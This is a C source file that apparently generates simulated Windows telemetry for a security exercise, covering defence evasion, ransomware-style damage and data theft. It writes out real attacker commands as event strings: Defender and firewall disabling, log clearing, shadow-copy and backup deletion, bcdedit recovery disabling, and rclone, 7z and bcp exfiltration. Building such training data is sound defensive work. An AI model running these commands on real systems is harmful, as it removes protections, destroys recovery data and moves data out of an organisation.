/* Activities on Windows hosts: switching protection off, harm, and data that leaves. The same rules as in
 * activity_windows.c: text that looks like the technique, with nothing behind it. */
#include <stdio.h>

#include "exercise/telemetry_impl.h"

#define DEFENDER_KEY "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\"

static void defender_event(struct act *a, enum win_id id) {
        struct win w;

        win_open(&w, a->m, a->host, id, a->at);
        if (w.off)
                return;
        win_set(&w, "Product Name", "Microsoft Defender Antivirus");
        win_set(&w, "Product Version", "4.18.24090.11");
        win_write(&w);
}

static void defender_disable(struct act *a) {
        proc_run(a, shell_ready(a), POWERSHELL,
                 "powershell.exe -Command \"Set-MpPreference -DisableRealtimeMonitoring $true\"");
        act_pause(a, 600);
        win_value(a, proc_standing(a->m, a->host, PROC_SVCHOST_LOCAL, -1),
                  DEFENDER_KEY "Real-Time Protection\\DisableRealtimeMonitoring",
                  "DWORD (0x00000001)");
        act_pause(a, 300);
        defender_event(a, DEF_OFF);
}

static void firewall_disable(struct act *a) {
        proc_run(a, shell_ready(a), SYS32("netsh.exe"),
                 "netsh advfirewall set allprofiles state off");
        act_pause(a, 150);
        win_value(a, proc_standing(a->m, a->host, PROC_SVCHOST_LOCAL, -1),
                  "HKLM\\System\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPol"
                  "icy\\DomainProfile\\EnableFirewall",
                  "DWORD (0x00000000)");
}

static void log_clear(struct act *a) {
        static const char *const logs[] = {"Security", "System", "Application"};
        struct win w;

        for (unsigned i = 0; i < ARRAY_LEN(logs); i++) {
                proc_run(a, shell_ready(a), SYS32("wevtutil.exe"),
                         tel_say(a->m, "wevtutil cl %s", logs[i]));
                a->at += 40 * MS;
                win_open(&w, a->m, a->host, i == 0 ? SEC_CLEARED : SYS_CLEARED, a->at);
                if (!w.off && i == 0)
                        win_subject(&w, a->who);
                if (!w.off && i < 2)
                        win_write(&w);
                act_pause(a, 700);
        }
}

static void malware_found(struct act *a) {
        struct win w;
        uint64_t x = prng_next(&a->rng);
        const char *threat = act_text(a, "threat");
        char when[40];

        win_open(&w, a->m, a->host, DEF_FOUND, a->at);
        if (w.off)
                return;
        time_format(when, event_ns(a->m, a->at), 3);
        const char *const set[][2] = {
                {"Product Name", "Microsoft Defender Antivirus"},
                {"Product Version", "4.18.24090.11"},
                {"Detection Time", tel_say(a->m, "%s", when)},
                {"Threat ID", "2147799999"},
                {"Threat Name", threat},
                {"Severity ID", "5"},
                {"Severity Name", "Severe"},
                {"Category ID", "8"},
                {"Category Name", "Trojan"},
                {"Status Code", "1"},
                {"Source ID", "3"},
                {"Source Name", "Real-Time Protection"},
                {"Process Name", "C:\\Windows\\explorer.exe"},
                {"Detection User", who_user(a->m, a->host, a->who)},
                {"Origin ID", "1"},
                {"Origin Name", "Local machine"},
                {"Execution ID", "1"},
                {"Execution Name", "Suspended"},
                {"Type ID", "0"},
                {"Type Name", "Concrete"},
                {"Action ID", "9"},
                {"Action Name", "Not Applicable"},
                {"Error Code", "0x00000000"},
                {"Error Description", "The operation completed successfully. "},
                {"Signature Version", "AV: 1.421.12.0, AS: 1.421.12.0, NIS: 1.421.12.0"},
                {"Engine Version", "AM: 1.1.24090.11, NIS: 1.1.24090.11"}};
        for (unsigned i = 0; i < ARRAY_LEN(set); i++)
                win_set(&w, set[i][0], set[i][1]);
        win_set(&w, "Detection ID",
                tel_say(a->m, "{%08X-4B47-4B9B-BC4A-%012llX}", (unsigned)(x >> 32),
                        (unsigned long long)(x & 0xffffffffffff)));
        win_set(&w, "Path",
                tel_say(a->m, "file:_%s\\Downloads\\%s", win_home(a), act_text(a, "file")));
        win_write(&w);
}

/* ---- harm ---- */

static void shadow_delete(struct act *a) {
        if (strcmp(act_text(a, "method"), "wmic") == 0)
                proc_run(a, shell_ready(a), SYS32("wbem\\WMIC.exe"),
                         "wmic shadowcopy delete /nointeractive");
        else
                proc_run(a, shell_ready(a), SYS32("vssadmin.exe"),
                         "vssadmin.exe delete shadows /all /quiet");
}

static void recovery_disable(struct act *a) {
        proc_run(a, shell_ready(a), SYS32("bcdedit.exe"),
                 "bcdedit /set {default} recoveryenabled no");
        act_pause(a, 400);
        proc_run(a, shell_ready(a), SYS32("bcdedit.exe"),
                 "bcdedit /set {default} bootstatuspolicy ignoreallfailures");
}

static void backup_delete(struct act *a) {
        proc_run(a, shell_ready(a), SYS32("wbadmin.exe"), "wbadmin delete catalog -quiet");
        act_pause(a, 500);
        proc_run(a, shell_ready(a), SYS32("wbadmin.exe"),
                 "wbadmin delete systemstatebackup -keepversions:0");
}

static void backup_stop(struct act *a) {
        const char *service = act_text(a, "service");
        const struct proc *p = proc_start(a, shell_ready(a), SYS32("net.exe"),
                                          tel_say(a->m, "net stop \"%s\" /y", service), a->who);
        struct win w;

        proc_run(a, p, SYS32("net1.exe"),
                 tel_say(a->m, "C:\\Windows\\system32\\net1 stop \"%s\" /y", service));
        proc_end(a, p, 300 * MS);
        act_pause(a, 1500);
        proc_run(a, shell_ready(a), SYS32("sc.exe"),
                 tel_say(a->m, "sc config \"%s\" start= disabled", service));
        win_open(&w, a->m, a->host, SYS_STATE, a->at);
        if (w.off)
                return;
        win_set(&w, "param1", service);
        win_set(&w, "param2", "stopped");
        win_write(&w);
}

static const char *const subjects[] = {"bao-cao", "cong-van", "quyet-dinh", "ke-hoach", "danh-sach",
                                       "du-toan", "hop-dong", "bien-ban",   "ho-so",    "to-trinh"};
static const char *const endings[] = {"docx", "xlsx", "pdf", "pptx", "jpg", "txt", "csv", "zip"};

static const char *document(struct act *a, const char *folder, unsigned i) {
        return tel_say(a->m, "%s\\%u\\%s-%04u.%s", folder, 2019 + i % 8,
                       subjects[i % ARRAY_LEN(subjects)], i + 1, PICK(&a->rng, endings));
}

static void mass_encrypt(struct act *a) {
        const char *folder = act_text(a, "folder");
        const char *image = tel_say(a->m, "C:\\Users\\Public\\%s", act_text(a, "program"));
        const struct proc *p =
                proc_start(a, shell_of(a), image, tel_say(a->m, "%s -p %s", image, folder), a->who);
        unsigned n = (unsigned)act_number(a, "count");
        int64_t begin = a->at, over = act_number(a, "over") * MS;

        for (unsigned i = 0; i < n; i++) {
                a->at = act_spread(a, begin, i, n, over);
                win_file(a, p,
                         tel_say(a->m, "%s.%s", document(a, folder, i), act_text(a, "ending")));
        }
        proc_end(a, p, 3 * SEC);
}

static void ransom_note(struct act *a) {
        static const char *const folders[] = {"D:\\DuLieu", "D:\\DuLieu\\2025", "D:\\DuLieu\\2026",
                                              "C:\\Users\\Public\\Documents", "D:\\Chung"};
        unsigned n = (unsigned)act_number(a, "count");
        const struct proc *p = shell_ready(a);

        win_file(a, p, tel_say(a->m, "%s\\Desktop\\%s", win_home(a), act_text(a, "file")));
        for (unsigned i = 1; i < n; i++) {
                act_pause(a, 400);
                win_file(a, p,
                         tel_say(a->m, "%s\\%s", folders[i % ARRAY_LEN(folders)],
                                 act_text(a, "file")));
        }
}

/* ---- data ---- */

static void share_copy(struct act *a) {
        const char *host = a->from >= 0 ? a->m->hosts[a->from].name : "MAYCHU-TEP";
        const char *folder = act_text(a, "folder");

        const struct proc *p =
                proc_start(a, shell_ready(a), SYS32("Robocopy.exe"),
                           tel_say(a->m, "robocopy \\\\%s\\%s C:\\Users\\Public\\tam /E /Z /R:1",
                                   host, folder),
                           a->who);
        for (unsigned i = 0; i < 30; i++)
                win_file(a, p, document(a, "C:\\Users\\Public\\tam", i));
        for (unsigned i = 0; a->from >= 0 && i < 30; i++) {
                struct win w;

                a->at += prng_range(&a->rng, 10, 90) * MS;
                win_open(&w, a->m, (unsigned)a->from, SEC_SHARE_FILE, a->at);
                if (w.off)
                        break;
                win_subject(&w, a->who);
                win_set(&w, "ObjectType", "File");
                win_set(&w, "IpAddress", a->m->hosts[a->host].address);
                win_set(&w, "IpPort",
                        tel_say(a->m, "%u", 50000u + (unsigned)prng_below(&a->rng, 9000)));
                win_set(&w, "ShareName", tel_say(a->m, "\\\\*\\%s", folder));
                win_set(&w, "ShareLocalPath", tel_say(a->m, "\\??\\D:\\%s", folder));
                win_set(&w, "RelativeTargetName", document(a, "tam", i) + 4);
                win_set(&w, "AccessMask", "0x120089");
                win_set(&w, "AccessList", "%%1538\n\t\t\t\t%%1541\n\t\t\t\t%%4416\n\t\t\t\t");
                win_write(&w);
        }
        proc_end(a, p, SEC);
}

static void database_export(struct act *a) {
        const struct proc *p = proc_start(
                a, shell_ready(a),
                "C:\\Program Files\\Microsoft SQL Server\\Client "
                "SDK\\ODBC\\170\\Tools\\Binn\\bcp.exe",
                tel_say(a->m, "bcp %s out C:\\Users\\Public\\hoso.csv -c -T -S localhost",
                        act_text(a, "table")),
                a->who);

        act_pause(a, 8000);
        win_file(a, p, "C:\\Users\\Public\\hoso.csv");
        proc_end(a, p, SEC);
}

static void archive_data(struct act *a) {
        const char *file = tel_say(a->m, "C:\\Users\\Public\\%s", act_text(a, "file"));
        const struct proc *p =
                proc_start(a, shell_ready(a), "C:\\Program Files\\7-Zip\\7z.exe",
                           tel_say(a->m,
                                   "\"C:\\Program Files\\7-Zip\\7z.exe\" a -pKhongThat "
                                   "-mhe=on -mx1 %s C:\\Users\\Public\\tam",
                                   file),
                           a->who);

        act_pause(a, 9000);
        win_file(a, p, file);
        proc_end(a, p, SEC);
}

static void usb_copy(struct act *a) {
        const char *drive = act_text(a, "drive");
        unsigned n = (unsigned)act_number(a, "count");
        struct win w;

        win_open(&w, a->m, a->host, SEC_DEVICE, a->at);
        if (!w.off) {
                win_subject(&w, WHO_SYSTEM);
                win_set(&w, "DeviceId",
                        tel_say(a->m, "USBSTOR\\Disk&Ven_Drill&Prod_USB_Disk&Rev_1.00\\%08X&0",
                                (unsigned)prng_next(&a->rng)));
                win_set(&w, "DeviceDescription", "Drill USB Disk USB Device");
                win_set(&w, "ClassId", "{4d36e967-e325-11ce-bfc1-08002be10318}");
                win_set(&w, "ClassName", "DiskDrive");
                win_set(&w, "VendorIds",
                        "\n\t\tUSBSTOR\\DiskDrill___USB_Disk________1."
                        "00\n\t\tUSBSTOR\\GenDisk\n\t\t");
                win_set(&w, "CompatibleIds", "\n\t\tUSBSTOR\\Disk\n\t\tUSBSTOR\\RAW\n\t\t");
                win_write(&w);
        }
        act_pause(a, 4000);
        int64_t begin = a->at;
        const struct proc *p = proc_standing(a->m, a->host, PROC_EXPLORER, a->who);
        for (unsigned i = 0; i < n; i++) {
                a->at = act_spread(a, begin, i, n, act_number(a, "over") * MS);
                win_file(a, p, document(a, drive, i));
        }
}

static void cloud_sync(struct act *a) {
        uint64_t bytes = (uint64_t)act_number(a, "bytes");
        const struct proc *p = proc_start(a, shell_ready(a), "C:\\Users\\Public\\rclone.exe",
                                          "rclone.exe copy C:\\Users\\Public\\tam luutru:hoso "
                                          "--transfers 8 --no-check-certificate",
                                          a->who);
        struct eve e = {.kind = EVE_FLOW,
                        .src = a->m->hosts[a->host].address,
                        .dst = act_address(a),
                        .dport = 443,
                        .proto = "TCP",
                        .app = "tls",
                        .to_server = bytes,
                        .to_client = bytes / 90,
                        .age_s = 240};

        if (act_domain(a) != act_address(a))
                win_dns(a, p, act_domain(a), act_address(a));
        win_connect(a, p, act_address(a), NULL, 443);
        a->at += 240 * SEC;
        eve_line(a, &e);
        proc_end(a, p, 2 * SEC);
}

const struct activity_fn activities_harm[] = {
        {"defender_disable", defender_disable},
        {"firewall_disable", firewall_disable},
        {"log_clear", log_clear},
        {"malware_found", malware_found},
        {"shadow_delete", shadow_delete},
        {"recovery_disable", recovery_disable},
        {"backup_delete", backup_delete},
        {"backup_stop", backup_stop},
        {"mass_encrypt", mass_encrypt},
        {"ransom_note", ransom_note},
        {"share_copy", share_copy},
        {"database_export", database_export},
        {"archive_data", archive_data},
        {"usb_copy", usb_copy},
        {"cloud_sync", cloud_sync},
        {NULL, NULL},
};
